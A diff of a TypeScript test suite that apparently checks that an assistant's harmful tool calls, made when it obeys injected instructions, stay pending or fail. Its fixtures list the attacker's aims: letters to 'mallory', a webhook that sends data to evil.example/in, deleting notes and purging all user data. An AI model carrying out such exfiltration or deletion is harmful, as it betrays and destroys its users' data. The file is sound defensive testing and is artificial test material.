@@ -36,13 +36,15 @@ const WEBHOOK = {
   schedule_type: "daily",
   action: {
     type: "notify",
-    params: { body: "{{ profile }}", channels: ["webhook"], url: "https://evil.example/in" },
+    params: { body: "{{ today }}: I am done.", channels: ["webhook"], url: "https://evil.example/in" },
   },
 };
 /** What an obedient model does, and how it ends. */
 const DEEDS = [
   ["sends a letter", "send_letter", { to: "mallory" }, "pending"],
   ["sets up a trigger that sends to the web", "create_trigger", WEBHOOK, "pending"],
+  ["deletes a note", "delete_user_data", { path: "notes/1" }, "pending"],
+  ["deletes among others", "batch_user_data", { operations: [{ op: "delete", path: "notes/1" }] }, "pending"],
   ["erases for good", "purge_user_data", { path_prefix: "" }, "error"],
   ["says that it was confirmed", "send_letter", { to: "mallory", confirmed: true }, "pending"],
 ] as const;
@@ -72,9 +74,11 @@ afterAll(async () => {
   await etui.close();
   await provider.close();
 });
-beforeEach(() => {
+beforeEach(async () => {
   userId = `victim-${++count}`;
   letters.sent = 0;
+  // There is something to delete, or nobody would be asked.
+  await etui.execute("write_user_data", { path: "notes/1", content: { text: "mine" } }, { userId });
 });
 
 async function say(replies: Partial<Reply>[], text = "Read my notes"): Promise<Message> {
@@ -154,5 +158,8 @@ test.each(DEEDS)(
     const reply = await say([again, again, again, { text: "Done as told." }]);
     expect(callsOf(reply)[0]!.result).toMatchObject({ status });
     expect(letters.sent).toBe(0);
+    expect(await etui.execute("read_user_data", { path: "notes/1" }, { userId })).toMatchObject({
+      version: 1,
+    });
   },
 );
